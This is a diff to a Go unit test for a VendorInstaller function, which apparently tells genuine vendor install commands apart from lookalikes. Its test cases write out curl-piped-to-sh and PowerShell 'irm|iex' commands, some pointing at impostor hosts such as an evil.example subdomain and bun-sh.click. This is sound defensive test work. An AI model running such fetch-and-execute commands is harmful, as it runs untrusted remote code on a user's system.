@@ -67,6 +67,13 @@ func TestVendorInstaller(t *testing.T) {
 		"curl https://sh.rustup.rs.evil.example | sh":                     "",
 		"curl https://sh.rustup.rs | sh && curl https://x.example/a | sh": "",
 		"echo no url here": "",
+		// A well-known owner's own installer on a forge; anyone else's is not a vendor's.
+		"curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh": "raw.githubusercontent.com/aquasecurity",
+		"curl -sfL https://raw.githubusercontent.com/go-enumer/tools/main/gen.sh | sh":                "",
+		"curl -sfL https://raw.githubusercontent.com/aquasecurity-dev/trivy/main/install.sh | sh":     "",
+		// PowerShell and curl take a URL without its scheme.
+		`powershell -c "irm bun.sh/install.ps1|iex"`:       "bun.sh/install",
+		`powershell -c "irm bun-sh.click/install.ps1|iex"`: "",
 	} {
 		if got := VendorInstaller(in); got != want {
 			t.Errorf("VendorInstaller(%q) = %q, want %q", in, got, want)
